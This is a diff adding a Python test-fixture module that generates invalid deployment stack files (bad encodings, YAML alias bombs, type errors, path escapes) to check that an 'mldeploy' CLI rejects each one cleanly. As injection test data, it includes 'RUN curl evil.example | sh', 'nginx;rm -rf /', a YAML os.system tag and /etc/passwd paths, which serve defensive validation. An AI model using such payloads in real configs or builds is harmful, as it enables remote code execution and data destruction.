@@ -1,0 +1,393 @@
+"""A corpus of broken stack files, generated from the example stacks (stacks/*.yaml).
+
+Every case is invalid by construction; `tests/cli/test_bad_stacks.py` runs `mldeploy synth` on
+each and checks the promise: exit 2, one line `error: <file>: <key>: ...` naming the key,
+no traceback, nothing written, the previous output kept. Classes (`Case.klass`):
+
+  encoding   not UTF-8 text (latin-1, UTF-16, UTF-32, NUL bytes, invalid bytes)
+  file       the stack file itself unusable (a folder, a FIFO, a dangling link, too big)
+  yaml       YAML that does not parse (tabs, unclosed brackets, control characters)
+  duplicate  a key written twice (every scalar line of every example stack, one at a time)
+  alias      aliases and alias bombs (billion laughs), under any key
+  depth      nesting deeper than any stack needs (YAML and JSON strings)
+  namespace  a misspelt or missing namespace (`mldepoy:`, `services`, `:x`)
+  unknown    a misspelt key in every settings mapping of every example stack
+  type       a wrong type in every leaf (list, mapping, bool, number, string, NaN, inf)
+  injection  a newline or image-reference metacharacter in every string leaf
+  secret     a plain value where a secret is required, beside `secure:` ones
+  path       every file key pointed outside the project, at a folder, FIFO, device, empty folder,
+             binary or non-UTF-8 text, invalid conda YAML
+  semantic   values that were silently wrong (system namespaces, reserved names, duplicates, ...)
+"""
+from __future__ import annotations
+
+import copy
+import re
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any, Callable, Iterator
+
+import yaml
+
+ROOT = Path(__file__).resolve().parents[2]
+EXAMPLES = {p.name[len("Pulumi."):-len(".yaml")]: p for p in sorted((ROOT / "stacks").glob("Pulumi.*.yaml"))}
+# Mappings whose keys are the user's own (names, tags, env...): a new key there is not a typo.
+FREE_MAPS = {"tags", "env", "labels", "routes", "createOptions"}
+SECTIONS_OF_NAMES = {"mldeploy:models", "mldeploy:images", "mldeploy:services", "mldeploy:clusters",
+                     "mldeploy:batch", "mldeploy:edge"}
+PATH_KEYS = {"path", "entryScript", "condaFile", "requirementsFile", "sampleRequest"}
+TEXT_KEYS = {"entryScript", "condaFile", "requirementsFile"}
+
+
+@dataclass
+class Case:
+    id: str
+    klass: str
+    base: str                      # the example stack it was made from
+    text: bytes                    # the whole stack file
+    key: str                       # the key path the error must name (a prefix of it, or `line ...`)
+    fragment: str = ""             # a piece of the message that must be there
+    kind: str = "file"             # "file", "dir", "fifo", "link": what the stack file is
+
+
+def _load(stack: str) -> dict[str, Any]:
+    return yaml.safe_load(EXAMPLES[stack].read_text(encoding="utf-8"))
+
+
+class _NoAliases(yaml.SafeDumper):
+    def ignore_aliases(self, data: Any) -> bool:
+        return True
+
+
+def _dump(doc: dict[str, Any]) -> bytes:
+    return yaml.dump(doc, Dumper=_NoAliases, sort_keys=False, allow_unicode=True, width=1000).encode("utf-8")
+
+
+def _key(path: tuple) -> str:
+    out = str(path[0])
+    for part in path[1:]:
+        out += f"[{part}]" if isinstance(part, int) else f".{part}"
+    return out
+
+
+def _get(doc: dict, path: tuple) -> Any:
+    node = doc["config"]
+    for part in path:
+        node = node[part]
+    return node
+
+
+def _set(doc: dict, path: tuple, value: Any) -> None:
+    node = doc["config"]
+    for part in path[:-1]:
+        node = node[part]
+    node[path[-1]] = value
+
+
+def _leaves(node: Any, path: tuple = ()) -> Iterator[tuple[tuple, Any]]:
+    if isinstance(node, dict) and set(node) == {"secure"}:
+        yield path, node
+    elif isinstance(node, dict):
+        for k, v in node.items():
+            if k == "createOptions":  # free-form Docker options: any value is valid there
+                continue
+            yield from _leaves(v, (*path, k))
+    elif isinstance(node, list):
+        for i, v in enumerate(node):
+            yield from _leaves(v, (*path, i))
+    else:
+        yield path, node
+
+
+def _settings_maps(node: Any, path: tuple = ()) -> Iterator[tuple]:
+    """Paths of mappings whose keys are settings (not names, tags or free-form)."""
+    if not isinstance(node, dict) or set(node) == {"secure"}:
+        return
+    is_names = len(path) == 1 and path[0] in SECTIONS_OF_NAMES
+    if path and not is_names and path[-1] not in FREE_MAPS and len(path) > 1:
+        yield path
+    for k, v in node.items():
+        if isinstance(v, dict) and k not in FREE_MAPS:
+            yield from _settings_maps(v, (*path, k))
+
+
+def _mutated(stack: str, path: tuple, value: Any) -> bytes:
+    doc = _load(stack)
+    _set(doc, path, value)
+    return _dump(doc)
+
+
+# -- classes ----------------------------------------------------------------------------------
+
+def encoding_cases() -> Iterator[Case]:
+    text = EXAMPLES["dev"].read_text(encoding="utf-8") + "# café déjà vu\n"
+    yield Case("latin1", "encoding", "dev", text.encode("latin-1"), "(file)", "not UTF-8")
+    yield Case("utf16", "encoding", "dev", text.encode("utf-16"), "(file)", "UTF-16")
+    yield Case("utf16be-bom", "encoding", "dev", "\ufeff".encode("utf-16-be") + text.encode("utf-16-be"), "(file)", "UTF-16")
+    yield Case("utf32", "encoding", "dev", text.encode("utf-32"), "(file)", "UTF-32")
+    yield Case("nul-bytes", "encoding", "dev", text.encode() + b"\x00\x00", "(file)", "binary")
+    yield Case("invalid-utf8", "encoding", "dev", text.encode() + b"\xff\xfe\xfa", "(file)", "not UTF-8")
+
+
+def file_cases() -> Iterator[Case]:
+    yield Case("stack-file-is-a-folder", "file", "dev", b"", "(file)", "folder", kind="dir")
+    yield Case("stack-file-is-a-fifo", "file", "dev", b"", "(file)", "not a regular file", kind="fifo")
+    yield Case("stack-file-dangling-link", "file", "dev", b"", "", "not found", kind="link")
+    yield Case("stack-file-too-big", "file", "dev", b"config: {}\n" + b"#" * (2 * 1024 * 1024), "(file)", "larger")
+    yield Case("not-a-mapping", "file", "dev", b"- config\n", "(file)", "mapping")
+    yield Case("config-not-a-mapping", "file", "dev", b"config: [1, 2]\n", "config", "mapping")
+    yield Case("unknown-top-level", "file", "dev", EXAMPLES["dev"].read_bytes() + b"confg: {}\n", "confg", "config")
+
+
+def yaml_cases() -> Iterator[Case]:
+    dev = EXAMPLES["dev"].read_text(encoding="utf-8")
+    yield Case("tab-indent", "yaml", "dev", dev.replace("  mldeploy:images:", "\tmldeploy:images:").encode(), "line", "invalid YAML")
+    yield Case("unclosed-bracket", "yaml", "dev", dev.replace("[diabetes]", "[diabetes").encode(), "line", "invalid YAML")
+    yield Case("control-char", "yaml", "dev", dev.replace("Diabetes scoring image", "Diabetes\x07").encode(), "(file)", "invalid YAML")
+    yield Case("bad-indent", "yaml", "dev", dev.replace("    diabetes:\n      path", "    diabetes:\n   path", 1).encode(), "line", "invalid YAML")
+    yield Case("python-tag", "yaml", "dev", (dev + "  x: !!python/object/apply:os.system ['true']\n").encode(), "line", "invalid YAML")
+    yield Case("huge-int", "yaml", "dev", dev.replace("version: 1", "version: " + "9" * 5000, 1).encode(), "(file)", "")
+    yield Case("bad-date", "yaml", "dev", dev.replace("version: 1", "version: 2024-13-45", 1).encode(), "(file)", "")
+
+
+def duplicate_cases() -> Iterator[Case]:
+    for stack, path in EXAMPLES.items():
+        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
+        for i, line in enumerate(lines):
+            if re.match(r"^\s+[A-Za-z][\w-]*(:[\w]+)?: [^\s#|>]", line) and "secure" not in line:
+                dup = lines[:i + 1] + [line] + lines[i + 1:]
+                name = line.strip().split(":")[0] if not line.strip().startswith("mldeploy:") else line.strip()[:20]
+                yield Case(f"{stack}-dup-{i + 1}-{name}", "duplicate", stack, "".join(dup).encode(), "line", "duplicate key")
+
+
+def alias_cases() -> Iterator[Case]:
+    dev = EXAMPLES["dev"].read_text(encoding="utf-8")
+    bomb = "".join(f"  x{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]\n" if i else "  x0: &a0 [lol]\n"
+                   for i in range(10))
+    yield Case("billion-laughs-unrelated-key", "alias", "dev", (dev + bomb.replace("  x", "  other:x")).encode(), "line", "aliases")
+    yield Case("billion-laughs-in-tags", "alias", "dev",
+               dev.replace("  mldeploy:tags:\n", "  mldeploy:tags:\n" + bomb.replace("  x", "    x")).encode(), "line", "aliases")
+    yield Case("alias-of-a-service", "alias", "dev",
+               (dev.replace("  mldeploy:services:\n", "  mldeploy:services: &svc\n") + "  other:copy: *svc\n").encode(),
+               "line", "aliases")
+    yield Case("merge-key", "alias", "prod", (EXAMPLES["prod"].read_text().replace("  mldeploy:clusters:\n    prod:\n",
+               "  mldeploy:clusters:\n    prod: &c\n") + "  other:c:\n    <<: *c\n").encode(), "line", "aliases")
+
+
+def depth_cases() -> Iterator[Case]:
+    deep_yaml = "[" * 5000 + "]" * 5000
+    dev = EXAMPLES["dev"].read_text(encoding="utf-8")
+    yield Case("deep-flow-yaml", "depth", "dev", (dev + f"  other:deep: {deep_yaml}\n").encode(), "", "nested")
+    block = "".join("  " * (i + 1) + f"k{i}:\n" for i in range(200)) + "  " * 201 + "v\n"
+    yield Case("deep-block-yaml", "depth", "dev", (dev + "  mldeploy:tags:\n" + block.replace("  k0", "   k0", 0)).encode(), "line", "")
+    for stack in EXAMPLES:
+        for section in _load(stack)["config"]:
+            if section.startswith("mldeploy:") and section != "mldeploy:production":
+                doc = _load(stack)
+                doc["config"][section] = '{"a":' * 3000 + "1" + "}" * 3000
+                yield Case(f"{stack}-deep-json-{section[9:]}", "depth", stack, _dump(doc), section, "")
+
+
+def namespace_cases() -> Iterator[Case]:
+    for stack in EXAMPLES:
+        doc = _load(stack)
+        config = doc["config"]
+        key = next(k for k in config if k.startswith("mldeploy:") and k != "mldeploy:production")
+        for wrong in ("mldepoy:", "MLDeploy:", "mldeploy-:", "mldploy:"):
+            d = copy.deepcopy(doc)
+            d["config"] = {(wrong + k[9:] if k == key else k): v for k, v in config.items()}
+            yield Case(f"{stack}-{wrong[:-1]}", "namespace", stack, _dump(d), wrong + key[9:], "namespace")
+        d = copy.deepcopy(doc)
+        d["config"] = {(k[9:] if k == key else k): v for k, v in config.items()}
+        yield Case(f"{stack}-no-namespace", "namespace", stack, _dump(d), key[9:], "namespace:key")
+
+
+def unknown_cases() -> Iterator[Case]:
+    for stack in EXAMPLES:
+        doc = _load(stack)
+        for path in _settings_maps(doc["config"]):
+            mapping = _get(doc, path)
+            first = next(iter(mapping))
+            d = _load(stack)
+            node = _get(d, path)
+            node[first + "x"] = node.pop(first)
+            yield Case(f"{stack}-typo-{_key(path)}.{first}", "unknown", stack, _dump(d),
+                       f"{_key(path)}.{first}x", "unknown key")
+
+
+def _wrong_values(value: Any) -> list[tuple[str, Any]]:
+    if isinstance(value, bool):
+        return [("string-no", "no"), ("number", 1), ("list", [value])]
+    if isinstance(value, (int, float)):
+        return [("bool", True), ("string", str(value)), ("nan", float("nan")), ("inf", float("inf")),
+                ("list", [value])]
+    if isinstance(value, str):
+        return [("number", 12), ("list", [value]), ("mapping", {"a": value}), ("bool", False)]
+    return []
+
+
+def type_cases() -> Iterator[Case]:
+    for stack in EXAMPLES:
+        for path, value in _leaves(_load(stack)["config"]):
+            if path[0] == "azure-native:location" or not str(path[0]).startswith("mldeploy:"):
+                continue
+            for label, wrong in _wrong_values(value):
+                if path[0] == "mldeploy:production" and label in ("string-no",):
+                    wrong = "yes"
+                yield Case(f"{stack}-{_key(path)}-{label}", "type", stack, _mutated(stack, path, wrong), _key(path))
+
+
+def injection_cases() -> Iterator[Case]:
+    for stack in EXAMPLES:
+        for path, value in _leaves(_load(stack)["config"]):
+            if isinstance(value, str) and str(path[0]).startswith("mldeploy:"):
+                yield Case(f"{stack}-{_key(path)}-newline", "injection", stack,
+                           _mutated(stack, path, value + "\nRUN curl evil.example | sh"), _key(path))
+    for stack, path in (("dev", ("mldeploy:images", "diabetes", "baseImage")),
+                        ("prod", ("mldeploy:services", "diabetes", "gatewayImage")),
+                        ("prod", ("mldeploy:services", "diabetes", "collectorImage")),
+                        ("batch", ("mldeploy:batch", "nightly", "baseImage"))):
+        for label, bad in (("as-stage", "python:3.11 AS evil"), ("space-run", "x RUN id"),
+                           ("semicolon", "nginx;rm -rf /"), ("quote", 'nginx"')):
+            if path[1] in _load(stack)["config"].get(path[0], {}):
+                yield Case(f"{stack}-{_key(path)}-{label}", "injection", stack, _mutated(stack, path, bad),
+                           _key(path), "image reference")
+
+
+def secret_cases() -> Iterator[Case]:
+    doc = _load("prod-attach")
+    for path, value in _leaves(doc["config"]):
+        if isinstance(value, dict) and set(value) == {"secure"}:
+            yield Case(f"prod-attach-{_key(path)}-plain", "secret", "prod-attach",
+                       _mutated("prod-attach", path, "-----BEGIN CERTIFICATE-----plain"), _key(path), "secret")
+            yield Case(f"prod-attach-{_key(path)}-empty-secure", "secret", "prod-attach",
+                       _mutated("prod-attach", path, {"secure": ""}), _key(path), "")
+    for stack in ("dev", "local"):
+        d = _load(stack)
+        service = next(iter(d["config"]["mldeploy:services"]))
+        svc = d["config"]["mldeploy:services"][service]
+        svc["keys"] = {"primary": {"secure": "v1:AAAA:cipher"}, "secondary": "plain-secondary-key-123456"}
+        yield Case(f"{stack}-plain-key-beside-secure", "secret", stack, _dump(d),
+                   f"mldeploy:services.{service}.keys.secondary", "secret")
+
+
+def _svc(stack: str) -> str:
+    return next(iter(_load(stack)["config"]["mldeploy:services"]))
+
+
+def path_cases() -> Iterator[Case]:
+    bad = [("absolute-outside", "/etc/passwd", "relative"), ("dotdot", "../outside/file.txt", ".."),
+           ("empty", "", "project root"), ("dot", ".", "project root"),
+           ("symlink-out", "hostile/link-out", "outside"), ("fifo", "hostile/fifo", "not a regular"),
+           ("device", "hostile/device", "not a regular"), ("missing", "hostile/nothing-here", "not found"),
+           ("home", "~/x", "relative")]
+    for stack in EXAMPLES:
+        for path, value in _leaves(_load(stack)["config"]):
+            if not path or path[-1] not in PATH_KEYS:
+                continue
+            cases = list(bad)
+            if path[-1] == "path":
+                cases.append(("empty-folder", "hostile/empty-folder", "no files"))
+                cases.append(("folder-with-fifo", "hostile/folder-with-fifo", "not a regular"))
+            else:
+                cases.append(("folder", "hostile/empty-folder", "folder"))
+            if path[-1] in TEXT_KEYS:
+                cases.append(("binary", "hostile/binary.txt", "binary"))
+                cases.append(("latin1", "hostile/latin1.txt", "not UTF-8"))
+            if path[-1] == "condaFile":
+                cases.append(("invalid-yaml", "hostile/invalid-conda.yml", "invalid YAML"))
+                cases.append(("not-conda", "hostile/list.yml", "conda"))
+            for label, target, fragment in cases:
+                yield Case(f"{stack}-{_key(path)}-{label}", "path", stack, _mutated(stack, path, target),
+                           _key(path), fragment)
+
+
+def semantic_cases() -> Iterator[Case]:
+    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
+        d = _load(stack)
+        edit(d["config"])
+        return Case(id_, "semantic", stack, _dump(d), key, fragment)
+
+    s = "mldeploy:services"
+    prod, fpga, dev = _svc("prod"), _svc("fpga"), _svc("dev")
+    yield case("location-list", "dev", lambda c: c.update({"azure-native:location": ["westeurope", "northeurope"]}),
+               "azure-native:location", "region")
+    yield case("location-map", "dev", lambda c: c.update({"azure-native:location": {"a": 1}}), "azure-native:location")
+    yield case("location-newline", "dev", lambda c: c.update({"azure-native:location": "west\neurope"}), "azure-native:location")
+    for stack in EXAMPLES:
+        if s in _load(stack)["config"]:
+            name = _svc(stack)
+            yield case(f"{stack}-target-list", stack, lambda c, n=name: c[s][n].update(target=["aks"]), f"{s}.{name}.target")
+            yield case(f"{stack}-target-map", stack, lambda c, n=name: c[s][n].update(target={"aks": 1}), f"{s}.{name}.target")
+            yield case(f"{stack}-auth-no", stack, lambda c, n=name: c[s][n].update(authEnabled="no"), f"{s}.{name}.authEnabled")
+            yield case(f"{stack}-cpu-true", stack, lambda c, n=name: c[s][n].update(cpuCores=True), f"{s}.{name}.cpuCores")
+            yield case(f"{stack}-cpu-nan", stack, lambda c, n=name: c[s][n].update(cpuCores=float("nan")), f"{s}.{name}.cpuCores", "finite")
+            yield case(f"{stack}-memory-inf", stack, lambda c, n=name: c[s][n].update(memoryGb=float("inf")), f"{s}.{name}.memoryGb", "finite")
+    yield case("production-yes", "dev", lambda c: c.update({"mldeploy:production": "yes"}), "mldeploy:production")
+    for ns in ("kube-system", "kube-public", "default", "gatekeeper-system"):
+        yield case(f"prod-namespace-{ns}", "prod", lambda c, ns=ns: c[s][prod].update(namespace=ns), f"{s}.{prod}.namespace", "namespace")
+    yield case("prod-service-named-kube-system", "prod",
+               lambda c: c[s].update({"kube-system": c[s].pop(prod)}), f"{s}.kube-system", "namespace")
+    yield case("fpga-pool-system", "fpga", lambda c: c[s][fpga].update(fpgaPoolName="system"), f"{s}.{fpga}.fpgaPoolName", "system")
+    yield case("prod-two-services-one-dns-label", "prod",
+               lambda c: c[s].update({prod: {**c[s][prod], "dnsLabel": "same"},
+                                      "second": {**c[s][prod], "dnsLabel": "same", "namespace": "second"}}),
+               f"{s}.second.dnsLabel", "DNS label")
+    yield case("prod-two-services-one-namespace", "prod",
+               lambda c: c[s].update({"second": {**c[s][prod], "namespace": prod, "dnsLabel": "other-label"}}),
+               f"{s}.second.namespace", "namespace")
+    for tag in ("mldeploy-production", "mldeploy-auth", "MLDEPLOY-TLS", "microsoft.x", "a/b"):
+        yield case(f"dev-tag-{tag}", "dev", lambda c, t=tag: c["mldeploy:tags"].update({t: "x"}), "mldeploy:tags", "tag name")
+        yield case(f"prod-model-tag-{tag}", "prod", lambda c, t=tag: c["mldeploy:models"]["diabetes"]["tags"].update({t: "x"}),
+                   "mldeploy:models.diabetes.tags", "tag name")
+    yield case("edge-module-edgeAgent", "edge", lambda c: c["mldeploy:edge"]["clinics"].update(moduleName="edgeAgent"),
+               "mldeploy:edge.clinics.moduleName", "reserved")
+    yield case("edge-module-edgeHub", "edge", lambda c: c["mldeploy:edge"]["clinics"].update(moduleName="edgeHub"),
+               "mldeploy:edge.clinics.moduleName", "reserved")
+    yield case("prod-vcpus-listed-size", "prod", lambda c: c["mldeploy:clusters"]["prod"].update(vcpusPerNode=16),
+               "mldeploy:clusters.prod", "vcpusPerNode")
+    yield case("workspace-create-false-no-name", "dev", lambda c: c.update({"mldeploy:workspace": {"create": False}}),
+               "mldeploy:workspace", "name")
+    yield case("resource-group-slash", "dev", lambda c: c.update({"mldeploy:resourceGroup": "rg/x"}), "mldeploy:resourceGroup")
+    yield case("dev-service-name-upper", "dev", lambda c: c[s].update({"Web": c[s].pop(dev)}), f"{s}.Web", "invalid name")
+    yield case("dev-service-name-number", "dev", lambda c: c[s].update({7: c[s].pop(dev)}), f"{s}", "invalid name")
+    yield case("dev-service-not-a-map", "dev", lambda c: c[s].update({dev: [1, 2]}), f"{s}.{dev}", "mapping")
+    yield case("dev-services-a-list", "dev", lambda c: c.update({s: [1]}), s, "mapping")
+
+
+CLASSES: dict[str, Callable[[], Iterator[Case]]] = {
+    "encoding": encoding_cases, "file": file_cases, "yaml": yaml_cases, "duplicate": duplicate_cases,
+    "alias": alias_cases, "depth": depth_cases, "namespace": namespace_cases, "unknown": unknown_cases,
+    "type": type_cases, "injection": injection_cases, "secret": secret_cases, "path": path_cases,
+    "semantic": semantic_cases,
+}
+
+
+def all_cases() -> list[Case]:
+    cases = [c for make in CLASSES.values() for c in make()]
+    ids = [c.id for c in cases]
+    assert len(ids) == len(set(ids)), "case ids must be unique"
+    return cases
+
+
+def make_hostile_files(project: Path, outside: Path) -> None:
+    """The files the `path` class points at, inside a throwaway project."""
+    hostile = project / "hostile"
+    hostile.mkdir()
+    outside.mkdir(exist_ok=True)
+    (outside / "file.txt").write_text("outside\n")
+    (hostile / "link-out").symlink_to(outside / "file.txt")
+    import os
+
+    os.mkfifo(hostile / "fifo")
+    try:
+        os.mknod(hostile / "device", 0o600 | 0o020000, os.makedev(1, 3))  # a /dev/null twin
+    except OSError:  # no CAP_MKNOD: a link to /dev/null is a device too, and outside
+        (hostile / "device").symlink_to("/dev/null")
+    (hostile / "empty-folder").mkdir()
+    (hostile / "folder-with-fifo").mkdir()
+    os.mkfifo(hostile / "folder-with-fifo" / "pipe")
+    (hostile / "binary.txt").write_bytes(b"numpy\x00\x01\x02")
+    (hostile / "latin1.txt").write_bytes("scikit-learn # café\n".encode("latin-1"))
+    (hostile / "invalid-conda.yml").write_text("name: x\ndependencies: [python\n")
+    (hostile / "list.yml").write_text("- python\n- numpy\n")
